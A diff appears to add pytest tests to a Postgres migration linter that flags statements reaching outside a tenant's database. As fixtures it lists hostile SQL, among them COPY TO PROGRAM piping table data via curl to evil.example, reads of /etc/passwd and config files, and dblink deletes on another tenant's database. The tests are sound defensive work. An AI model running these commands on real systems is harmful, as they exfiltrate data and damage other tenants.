@@ -344,7 +344,7 @@ def test_shipped_migrations_lint_clean() -> None:
 
 def _folder(tmp_path: Path, sql: str) -> Path:
     folder = tmp_path / "migrations"
-    folder.mkdir()
+    folder.mkdir(parents=True)
     (folder / "v1.0.0_base.sql").write_text(BASE)
     (folder / "v1.0.1_step.sql").write_text(sql)
     return folder
@@ -375,3 +375,207 @@ def test_partitions_and_like_inherit_columns(tmp_path: Path) -> None:
     later = ("CREATE TABLE evt_1 PARTITION OF evt FOR VALUES IN (1);\n"
              "CREATE INDEX evt_site_ix ON ONLY evt (clnt_id, site_id);\n")
     assert lint(tmp_path, sql, later) == []
+
+
+# -- empty migrations -------------------------------------------------------------------
+
+@pytest.mark.parametrize("sql", ["", "-- later\n", "/* nothing */\n;\n"])
+def test_empty_migration_is_a_warning(tmp_path: Path, sql: str) -> None:
+    finding = only(lint(tmp_path, sql), "empty-migration", 1)
+    assert finding.severity == "warning" and "v1.0.1_step_1.sql" == finding.file
+
+
+def test_empty_migration_can_be_accepted(tmp_path: Path) -> None:
+    assert lint(tmp_path, "-- tenantctl: allow empty-migration\n-- kept as a placeholder\n") == []
+
+
+# -- statements that reach outside the tenant's own database -----------------------------
+
+def lint_with_down(tmp_path: Path, up: str, down: str, *, shared_mode: bool = False) -> list[Finding]:
+    folder = _folder(tmp_path, up)
+    (folder / "v1.0.1_step.down.sql").write_text(down)
+    return lint_migrations(load_migrations(folder), global_tables=GLOBAL, shared_mode=shared_mode)
+
+
+@pytest.mark.parametrize("rule, sql", [
+    ("ban-drop-database", "-- tenantctl: no-transaction\nDROP DATABASE cvs_client_2;"),
+    ("ban-drop-database", "-- tenantctl: no-transaction\nDROP DATABASE IF EXISTS other WITH (FORCE);"),
+    ("ban-drop-database", "-- tenantctl: no-transaction\nCREATE DATABASE scratch;"),
+    ("ban-drop-database", "ALTER DATABASE cvs_client_1 SET search_path = app, public;"),
+    ("ban-drop-database", "ALTER DATABASE cvs_client_1 CONNECTION LIMIT 5;"),
+    ("ban-drop-database", "ALTER DATABASE cvs_client_1 OWNER TO someone;"),
+    ("ban-drop-database", "ALTER DATABASE cvs_client_1 RENAME TO x;"),
+    ("ban-drop-database", "ALTER DATABASE cvs_client_1 REFRESH COLLATION VERSION;"),
+    ("ban-drop-database", "GRANT CONNECT ON DATABASE cvs_client_2 TO cvs_app;"),
+    ("ban-drop-database", "DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET x.y = 1', current_database()); END $$;"),
+    ("ban-cross-database-access", "CREATE EXTENSION IF NOT EXISTS dblink;"),
+    ("ban-cross-database-access", "CREATE EXTENSION postgres_fdw;"),
+    ("ban-cross-database-access", "CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'x');"),
+    ("ban-cross-database-access", "CREATE USER MAPPING FOR CURRENT_USER SERVER other;"),
+    ("ban-cross-database-access", "ALTER USER MAPPING FOR CURRENT_USER SERVER other OPTIONS (SET password 'x');"),
+    ("ban-cross-database-access", "CREATE FOREIGN TABLE ft (clnt_id int2) SERVER other;"),
+    ("ban-cross-database-access", "IMPORT FOREIGN SCHEMA public FROM SERVER other INTO stage;"),
+    ("ban-cross-database-access", "CREATE SUBSCRIPTION s CONNECTION 'dbname=x' PUBLICATION p WITH (connect = false);"),
+    ("ban-cross-database-access", "SELECT dblink_exec('dbname=cvs_client_2', 'DELETE FROM usr_mast');"),
+    ("ban-cross-database-access", "INSERT INTO usr_mast SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int);"),
+    ("ban-cross-database-access", "SELECT public.dblink_connect('c', 'dbname=x');"),
+    ("ban-cross-database-access", "DO $$\nBEGIN\n  PERFORM DBLINK_EXEC('dbname=x', 'select 1');\nEND $$;"),
+    ("ban-cross-database-access", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$\n"
+                                  "BEGIN PERFORM dblink_exec('dbname=x', 'select 1'); END $f$;"),
+    ("ban-copy-program", "COPY usr_mast TO PROGRAM 'curl -d @- https://evil.example';"),
+    ("ban-copy-program", "COPY usr_mast FROM PROGRAM 'cat /etc/passwd';"),
+    ("ban-copy-program", "COPY usr_mast FROM '/var/lib/postgresql/data.csv' WITH (FORMAT csv);"),
+    ("ban-copy-program", "COPY (SELECT * FROM usr_mast) TO '/tmp/usr.csv';"),
+    ("ban-copy-program", "SELECT lo_import('/etc/passwd');"),
+    ("ban-copy-program", "SELECT pg_read_file('postgresql.auto.conf');"),
+    ("ban-copy-program", "DO $$ BEGIN EXECUTE 'COPY usr_mast TO PROGRAM ''gzip > /tmp/x''' ; END $$;"),
+    ("ban-alter-system", "-- tenantctl: no-transaction\nALTER SYSTEM SET max_connections = 5;"),
+    ("ban-alter-system", "-- tenantctl: no-transaction\nALTER SYSTEM RESET ALL;"),
+    ("ban-role-ddl", "CREATE ROLE cvs_reader;"),
+    ("ban-role-ddl", "CREATE USER bob PASSWORD 'x';"),
+    ("ban-role-ddl", "CREATE GROUP readers;"),
+    ("ban-role-ddl", "ALTER ROLE cvs_app BYPASSRLS;"),
+    ("ban-role-ddl", "ALTER USER cvs_app SET search_path = x;"),
+    ("ban-role-ddl", "ALTER ROLE cvs_app RENAME TO cvs_app2;"),
+    ("ban-role-ddl", "DROP ROLE IF EXISTS cvs_reader;"),
+    ("ban-role-ddl", "DROP USER bob;"),
+    ("ban-role-ddl", "GRANT cvs_owner TO cvs_app;"),
+    ("ban-role-ddl", "REVOKE cvs_owner FROM cvs_app;"),
+    ("ban-role-ddl", "SET ROLE cvs_owner;"),
+    ("ban-role-ddl", "SET LOCAL ROLE cvs_owner;"),
+    ("ban-role-ddl", "SET SESSION AUTHORIZATION cvs_owner;"),
+    ("ban-role-ddl", "REASSIGN OWNED BY cvs_app TO cvs_owner;"),
+    ("ban-role-ddl", "DROP OWNED BY cvs_app;"),
+    ("ban-role-ddl", "DO $$\nBEGIN\n  IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'r') THEN\n"
+                     "    CREATE ROLE r NOLOGIN;\n  END IF;\nEND $$;"),
+])
+def test_reach_outside_rules(tmp_path: Path, rule: str, sql: str) -> None:
+    findings = lint(tmp_path, sql)
+    assert [f.rule for f in findings] == [rule], findings
+    assert findings[0].severity == "error" and findings[0].hint == RULES[rule].hint
+    assert findings[0].file == "v1.0.1_step_1.sql"
+
+
+@pytest.mark.parametrize("sql", [
+    "CREATE EXTENSION IF NOT EXISTS pgcrypto;",
+    "CREATE EXTENSION \"uuid-ossp\";",
+    "COPY usr_mast FROM STDIN;",
+    "COPY (SELECT 1) TO STDOUT;",
+    "ALTER TABLE usr_mast OWNER TO app_owner;",
+    "ALTER SCHEMA public OWNER TO app_owner;",
+    "GRANT SELECT ON usr_mast TO cvs_app;",
+    "REVOKE ALL ON usr_mast FROM PUBLIC;",
+    "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO cvs_app;",
+    "RESET ROLE;",
+    "SET search_path = public;",
+    "SELECT set_config('app.current_tenant', '1', true);",
+    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$\n"
+    "BEGIN\n  -- we used to CREATE ROLE here and call dblink_exec(); no more\n  PERFORM 1;\nEND $f$;",
+    "COMMENT ON COLUMN usr_mast.usr_note IS 'copied from the old system via dblink';",
+])
+def test_reach_outside_rules_no_false_alarms(tmp_path: Path, sql: str) -> None:
+    assert lint(tmp_path, sql) == []
+
+
+def test_reach_outside_line_points_inside_a_do_body(tmp_path: Path) -> None:
+    sql = "SELECT 1;\nDO $$\nBEGIN\n  PERFORM 1;\n  PERFORM dblink_exec('x', 'y');\nEND $$;\n"
+    only(lint(tmp_path, sql), "ban-cross-database-access", 5)
+
+
+def test_reach_outside_rules_check_down_scripts(tmp_path: Path) -> None:
+    down = "-- undo\nDROP TABLE IF EXISTS x;\nSELECT dblink_exec('dbname=cvs_client_2', 'DROP TABLE t');\nCREATE ROLE r;\n"
+    findings = lint_with_down(tmp_path, "CREATE TABLE x (clnt_id int2 NOT NULL);", down)
+    assert [(f.rule, f.file, f.line) for f in findings] == [
+        ("ban-cross-database-access", "v1.0.1_step.down.sql", 3),
+        ("ban-role-ddl", "v1.0.1_step.down.sql", 4),
+    ]
+
+
+def test_down_script_allow_directive_is_its_own(tmp_path: Path) -> None:
+    up = "-- tenantctl: allow ban-role-ddl\nCREATE ROLE r;"
+    findings = lint_with_down(tmp_path, up, "DROP ROLE r;")
+    assert [(f.rule, f.file) for f in findings] == [("ban-role-ddl", "v1.0.1_step.down.sql")]
+    assert lint_with_down(tmp_path / "b", up, "-- tenantctl: allow ban-role-ddl\nDROP ROLE r;") == []
+
+
+def test_down_scripts_are_not_held_to_the_up_rules(tmp_path: Path) -> None:
+    down = "DROP TABLE usr_mast;\nALTER TABLE site_mast DROP COLUMN site_cd;\nTRUNCATE site_mast;\n"
+    assert lint_with_down(tmp_path, "SELECT 1;", down) == []
+
+
+# -- shared mode ------------------------------------------------------------------------
+
+def lint_shared(tmp_path: Path, sql: str, *, shared_mode: bool = True) -> list[Finding]:
+    return lint_migrations(load_migrations(_folder(tmp_path, sql)), global_tables=GLOBAL,
+                           shared_mode=shared_mode)
+
+
+@pytest.mark.parametrize("rule, sql", [
+    ("view-needs-security-invoker", "CREATE VIEW usr_v AS SELECT clnt_id, usr_nm FROM usr_mast;"),
+    ("view-needs-security-invoker", "CREATE OR REPLACE VIEW usr_v AS SELECT clnt_id, usr_nm FROM usr_mast;"),
+    ("view-needs-security-invoker", "CREATE VIEW usr_v WITH (security_barrier) AS SELECT clnt_id FROM usr_mast;"),
+    ("view-needs-security-invoker", "CREATE VIEW usr_v WITH (security_invoker = false) AS SELECT clnt_id FROM usr_mast;"),
+    ("view-needs-security-invoker", "CREATE VIEW usr_v WITH (security_invoker = off) AS SELECT clnt_id FROM usr_mast;"),
+    ("view-needs-security-invoker", "CREATE RECURSIVE VIEW nums (n) AS SELECT 1 UNION ALL SELECT n + 1 FROM nums WHERE n < 3;"),
+    ("view-needs-security-invoker", "ALTER VIEW usr_v SET (security_invoker = false);"),
+    ("view-needs-security-invoker", "ALTER VIEW usr_v RESET (security_invoker);"),
+    ("view-needs-security-invoker", "ALTER VIEW usr_v SET (security_invoker = 0, check_option = local);"),
+    ("shared-materialized-view", "CREATE MATERIALIZED VIEW usr_cnt AS SELECT clnt_id, count(*) FROM usr_mast GROUP BY 1;"),
+    ("shared-security-definer", "CREATE FUNCTION usr_cnt() RETURNS bigint LANGUAGE sql SECURITY DEFINER\n"
+                                "AS 'SELECT count(*) FROM usr_mast';"),
+    ("shared-security-definer", "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql SECURITY DEFINER\n"
+                                "BEGIN ATOMIC DELETE FROM usr_mast; END;"),
+    ("shared-security-definer", "ALTER FUNCTION usr_cnt() SECURITY DEFINER;"),
+])
+def test_shared_mode_rules(tmp_path: Path, rule: str, sql: str) -> None:
+    findings = lint_shared(tmp_path, sql)
+    assert [(f.rule, f.line) for f in findings] == [(rule, 1)], findings
+    assert findings[0].severity == "error" and findings[0].hint == RULES[rule].hint
+    assert lint_shared(tmp_path / "dedicated", sql, shared_mode=False) == []
+
+
+@pytest.mark.parametrize("sql", [
+    "CREATE VIEW usr_v WITH (security_invoker = true) AS SELECT clnt_id, usr_nm FROM usr_mast;",
+    "CREATE VIEW usr_v WITH (security_invoker) AS SELECT clnt_id FROM usr_mast;",
+    "CREATE OR REPLACE VIEW usr_v WITH (security_barrier, security_invoker = on) AS SELECT clnt_id FROM usr_mast;",
+    "CREATE VIEW usr_v WITH (security_invoker = 1) AS SELECT clnt_id FROM usr_mast;",
+    "CREATE TEMP VIEW tmp_v AS SELECT 1;",
+    "ALTER VIEW usr_v SET (security_invoker = true);",
+    "ALTER VIEW usr_v SET (security_barrier = true);",
+    "ALTER VIEW usr_v RENAME TO usr_v2;",
+    "CREATE FUNCTION usr_cnt() RETURNS bigint LANGUAGE sql SECURITY INVOKER AS 'SELECT 1';",
+    "CREATE FUNCTION usr_cnt() RETURNS bigint LANGUAGE sql AS 'SELECT 1';",
+    "ALTER FUNCTION usr_cnt() SECURITY INVOKER;",
+    "REFRESH MATERIALIZED VIEW CONCURRENTLY something_old;",
+])
+def test_shared_mode_rules_no_false_alarms(tmp_path: Path, sql: str) -> None:
+    assert lint_shared(tmp_path, sql) == []
+
+
+def test_shared_mode_view_rules_see_alter_table_on_a_known_view(tmp_path: Path) -> None:
+    sql = ("CREATE VIEW usr_v WITH (security_invoker = true) AS SELECT clnt_id FROM usr_mast;\n"
+           "ALTER TABLE usr_v RESET (security_invoker);\n")
+    only(lint_shared(tmp_path, sql), "view-needs-security-invoker", 2, file="v1.0.1_step.sql")
+
+
+def test_shared_mode_rules_check_down_scripts(tmp_path: Path) -> None:
+    up = "CREATE OR REPLACE VIEW usr_v WITH (security_invoker = true) AS SELECT clnt_id FROM usr_mast;"
+    down = "CREATE OR REPLACE VIEW usr_v AS SELECT clnt_id, usr_nm FROM usr_mast;"
+    findings = lint_with_down(tmp_path, up, down, shared_mode=True)
+    assert [(f.rule, f.file) for f in findings] == [("view-needs-security-invoker", "v1.0.1_step.down.sql")]
+
+
+def test_typical_xos_migrations_in_shared_mode(tmp_path: Path) -> None:
+    folder = tmp_path / "migrations"
+    folder.mkdir()
+    for number, sql in enumerate([BASE, XOS, XOS_NO_TRANSACTION, XOS_LATER]):
+        (folder / f"v1.0.{number}_step_{number}.sql").write_text(sql)
+    findings = lint_migrations(load_migrations(folder), global_tables=GLOBAL, shared_mode=True)
+    assert [f.rule for f in findings] == ["shared-materialized-view"]  # grp_cnt_mv; the view is invoker
+
+
+def test_new_rules_are_documented_in_the_module_docstring() -> None:
+    import tenantctl.lint
+
+    for rule in RULES:
+        assert rule in (tenantctl.lint.__doc__ or ""), rule
